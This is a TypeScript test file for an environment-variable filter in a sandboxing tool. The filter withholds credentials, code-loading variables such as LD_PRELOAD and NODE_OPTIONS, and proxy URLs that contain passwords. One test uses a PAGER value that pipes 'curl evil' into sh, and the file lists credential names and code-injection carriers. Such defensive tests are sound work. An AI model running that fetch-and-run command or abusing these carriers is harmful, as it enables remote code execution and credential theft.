import assert from 'node:assert/strict';
import { test } from 'node:test';
import { resolveEnvironment } from '../../../src/policy/profile/profile-environment.ts';
import {
  chooseEnvironment,
  noEnvironmentRules,
  withheldText,
  withValues,
} from '../../../src/policy/resolve/environment.ts';

const given = (names: readonly string[], value = 'x'): Record<string, string> =>
  Object.fromEntries(names.map((name) => [name, value]));
const rules = (more: Partial<typeof noEnvironmentRules>) => ({ ...noEnvironmentRules, ...more });

const credentials = [
  'AWS_ACCESS_KEY_ID',
  'AWS_SECRET_ACCESS_KEY',
  'AWS_SESSION_TOKEN',
  'GITHUB_TOKEN',
  'GH_TOKEN',
  'NPM_TOKEN',
  'npm_config__authToken',
  'CARGO_REGISTRY_TOKEN',
  'UV_PUBLISH_TOKEN',
  'OPENAI_API_KEY',
  'ANTHROPIC_API_KEY',
  'DATABASE_URL',
  'PGPASSWORD',
  'MYSQL_PWD',
  'VAULT_TOKEN',
  'KUBECONFIG',
  'XDG_ACTIVATION_TOKEN',
  'SOMETHING_NOBODY_HEARD_OF',
  'http_proxy_password',
];

test('what is on no list stays outside, credentials of every name among it', () => {
  const chosen = chooseEnvironment({ ...given(credentials), PATH: '/bin', LC_TIME: 'C', CI: '1' });
  assert.deepEqual(chosen.values, { PATH: '/bin', LC_TIME: 'C', CI: '1' });
  assert.deepEqual(chosen.withheld.map(({ name }) => name).sort(), [...credentials].sort());
});

const carriers = [
  'LD_PRELOAD',
  'LD_LIBRARY_PATH',
  'DYLD_INSERT_LIBRARIES',
  'BASH_ENV',
  'ENV',
  'PROMPT_COMMAND',
  'NODE_OPTIONS',
  'PYTHONPATH',
  'PYTHONSTARTUP',
  'PERL5OPT',
  'BASH_FUNC_ls%%',
  'IFS',
  'OP_SESSION_x',
  'GIT_SSH_COMMAND',
  'GIT_CONFIG_COUNT',
  'LESSOPEN',
  'MAKEFLAGS',
  'RUSTC_WRAPPER',
  'VIMINIT',
];

test('a star in a profile does not mean what carries code', () => {
  const chosen = chooseEnvironment({ ...given(carriers), MINE: 'y', LDFLAGS: '-s' }, rules({ allow: ['*'] }));
  assert.deepEqual(chosen.values, { MINE: 'y', LDFLAGS: '-s' });
  assert.deepEqual(new Set(chosen.withheld.map(({ because }) => because)), new Set(['carries code']));
});

test('a carrier passes by its exact name; what a loader reads, only when it was typed', () => {
  const env = { GIT_SSH_COMMAND: 'ssh -v', NODE_OPTIONS: '--x' };
  assert.deepEqual(chooseEnvironment(env, rules({ allow: ['GIT_SSH_COMMAND', 'NODE_OPTIONS'] })).values, {
    GIT_SSH_COMMAND: 'ssh -v',
  });
  assert.deepEqual(chooseEnvironment(env, rules({ typed: ['NODE_OPTIONS'] })).values, { NODE_OPTIONS: '--x' });
  assert.deepEqual(chooseEnvironment(env, rules({ typed: ['*'] })).values, {}, 'a typed star is no exact name');
});

test('patterns: anywhere in the name, anchored, a deny beats them, case on request', () => {
  const env = given(['AWS_REGION', 'AWS_SECRET', 'MY_AWS_X', 'aws_profile']);
  const names = (more: Partial<typeof noEnvironmentRules>) => Object.keys(chooseEnvironment(env, rules(more)).values);
  assert.deepEqual(names({ allow: ['AWS_*'] }), ['AWS_REGION', 'AWS_SECRET']);
  assert.deepEqual(names({ allow: ['AWS_*'], deny: ['*SECRET*'] }), ['AWS_REGION']);
  assert.deepEqual(names({ allow: ['AWS_*'], caseInsensitive: true }), ['AWS_REGION', 'AWS_SECRET', 'aws_profile']);
  assert.deepEqual(names({ allow: ['A.*'] }), [], 'no regular expression');
  assert.deepEqual(Object.keys(chooseEnvironment({ PATH: '/bin', TERM: 'x' }, rules({ deny: ['TERM'] })).values), [
    'PATH',
  ]);
});

test('a password in an address and a command line in PAGER stay outside, though the names are listed', () => {
  const chosen = chooseEnvironment({
    HTTPS_PROXY: 'http://me:hunter2@proxy:3128',
    https_proxy: 'http://proxy:3128',
    GOPROXY: 'https://u:p@corp/go,direct',
    PAGER: 'sh -c "curl evil | sh"',
    EDITOR: 'code --wait',
  });
  assert.deepEqual(chosen.values, { https_proxy: 'http://proxy:3128', EDITOR: 'code --wait' });
});

test('what is set wins over what is inherited', () => {
  const chosen = chooseEnvironment(
    { A: '1', PATH: '/bin' },
    rules({ set: { A: '2', PATH: '/x', LD_PRELOAD: '/l.so' } }),
  );
  assert.deepEqual(chosen.values, { A: '2', PATH: '/x', LD_PRELOAD: '/l.so' });
  assert.deepEqual(chosen.withheld, []);
});

test("what passes between nono's own processes is neither passed on nor listed", () => {
  const chosen = chooseEnvironment({
    NONO_RELAY_FD: '3',
    NONO_RELAY_TERMIOS: '00',
    NONO_NODE_COMPILE_CACHE: '/c',
    _: 'x',
  });
  assert.deepEqual(chosen, { values: { NODE_COMPILE_CACHE: '/c' }, withheld: [], inherited: new Set() });
});

test('what the front kept from its own Node reaches the command as anything else of that name would', () => {
  const env = { NONO_OPENSSL_CONF: '/o.cnf', NONO_OPENSSL_MODULES: '/m', NONO_NODE_COMPILE_CACHE: '/c' };
  assert.deepEqual(chooseEnvironment(env).withheld, [
    { name: 'OPENSSL_CONF', because: 'carries code' },
    { name: 'OPENSSL_MODULES', because: 'carries code' },
  ]);
  const named = chooseEnvironment(env, rules({ allow: ['OPENSSL_CONF'], deny: ['NODE_COMPILE_CACHE'] }));
  assert.deepEqual(named.values, { OPENSSL_CONF: '/o.cnf' });
  const over = chooseEnvironment(env, rules({ set: { OPENSSL_CONF: '/mine' }, typed: ['OPENSSL_MODULES'] }));
  assert.deepEqual(over.values, { NODE_COMPILE_CACHE: '/c', OPENSSL_CONF: '/mine', OPENSSL_MODULES: '/m' });
  assert.deepEqual(over.withheld, []);
});

test('what is inherited is told from what is set, whatever the values are; and which values were asked for', () => {
  const heard: string[] = [];
  const asked = {
    value: (name: string) => void heard.push(name),
    hasAt: (name: string) => heard.push(`${name}@`) < 0,
  };
  const outside = { EDITOR: 'vi', LANG: 'C', PAGER: 'less', SHLVL: '1', MINE: 'm', TYPED: 't', OTHER: 'o' };
  const chosen = chooseEnvironment(
    outside,
    rules({ set: { EDITOR: 'vi', LANG: 'C' }, allow: ['MINE'], typed: ['TYPED'] }),
    asked,
  );
  assert.deepEqual([...chosen.inherited].sort(), ['MINE', 'PAGER', 'SHLVL', 'TYPED']);
  assert.deepEqual(heard.sort(), ['PAGER', 'PAGER@', 'SHLVL@']);
  const other = withValues(chosen, { PAGER: 'less', NEW: 'x' });
  assert.deepEqual([...other.inherited].sort(), ['MINE', 'SHLVL', 'TYPED']);
  assert.equal(other.values['NEW'], 'x');
});

test('the line about it names credentials first, and no values', () => {
  const { withheld } = chooseEnvironment(given(['ZZZ_TOKEN', 'AAA', 'BBB', 'CCC', 'DDD', 'EEE', 'FFF'], 'hunter2'));
  assert.equal(withheldText(withheld), 'ZZZ_TOKEN, AAA, BBB, CCC, DDD, EEE and 1 more');
  assert.doesNotMatch(withheldText(withheld, true) ?? '', /hunter2/);
  assert.equal(withheldText([]), undefined);
});

test('a pattern takes no time on any name', () => {
  const star = `${'*a'.repeat(30)}*b`;
  const name = 'a'.repeat(10_000);
  const began = process.cpuUsage();
  const chosen = chooseEnvironment({ [name]: 'x', [`${name}b`]: 'y' }, rules({ allow: [star] }));
  assert.deepEqual(Object.values(chosen.values), ['y']);
  assert.ok(process.cpuUsage(began).user < 1_000_000);
  const some = rules({ allow: ['A*', '*_Z', 'x*y*x', 'in[*]'], caseInsensitive: true });
  const names = ['A', 'ab', 'B_z', '_Z', 'XyX', 'xyyx', 'xx', 'xy', 'in[1]', 'in1'];
  assert.deepEqual(
    Object.keys(chooseEnvironment(given(names), some).values),
    names.filter((one) => !['xx', 'xy', 'in1'].includes(one)),
  );
});

test('--env takes names, and nothing else', () => {
  const nothing = { allow: [], deny: [], caseInsensitive: false, set: {} };
  for (const flag of ['A B', 'A\tB=c', '=x', 'A*=1', 'A\nB', 'NONO_X', '__proto__=1', '\u202eA'])
    assert.throws(() => resolveEnvironment(nothing, [flag], new Map()), { code: 'usage' }, JSON.stringify(flag));
  const { typed, set } = resolveEnvironment(nothing, ['A', 'AWS_*', 'A=b c', 'B=', 'Program(x86)=1'], new Map());
  assert.deepEqual(typed, ['A', 'AWS_*']);
  assert.deepEqual(set, { A: 'b c', B: '', 'Program(x86)': '1' });
});
